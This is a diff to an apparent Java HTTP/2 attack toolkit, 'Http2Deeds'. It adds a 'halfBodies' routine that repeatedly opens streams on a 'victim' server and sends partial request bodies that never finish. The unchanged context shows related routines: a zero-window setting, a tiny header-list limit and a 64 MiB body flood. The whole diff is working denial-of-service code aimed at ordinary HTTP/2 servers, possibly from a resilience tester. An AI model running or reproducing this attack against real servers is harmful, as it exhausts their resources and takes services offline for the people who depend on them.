@@ -18,6 +18,7 @@ final class Http2Deeds {
     private static final int BATCH = 50;
     private static final int BODY_OCTETS = 64 << 20;
     private static final int CHUNK_OCTETS = 16 << 10;
+    private static final int HALF_BODY_CHUNKS = 3;
     private static final byte[] NO_WINDOW = {0, 4, 0, 0, 0, 0};
     private static final byte[] TINY_HEADER_LIST = {0, 6, 0, 0, 0, 1};
 
@@ -118,6 +119,20 @@ final class Http2Deeds {
                 client.write(frame(HEADERS, END_HEADERS, 1, bodiless(door)));
                 for (int sent = 0; sent < BODY_OCTETS; sent += CHUNK_OCTETS) {
                     client.write(frame(DATA, 0, 1, new byte[CHUNK_OCTETS]));
+                }
+            }
+        });
+    }
+
+    /// Many bodies at a time, of each of which only the end is missing.
+    static Deed halfBodies(String door) {
+        return Deed.again((victim, untilNanos) -> {
+            try (var client = connect(victim, door)) {
+                for (int stream = 1; Deed.isTime(untilNanos); stream += 2) {
+                    client.write(frame(HEADERS, END_HEADERS, stream, bodiless(door)));
+                    for (int i = 0; i < HALF_BODY_CHUNKS; i++) {
+                        client.write(frame(DATA, 0, stream, new byte[CHUNK_OCTETS]));
+                    }
                 }
             }
         });
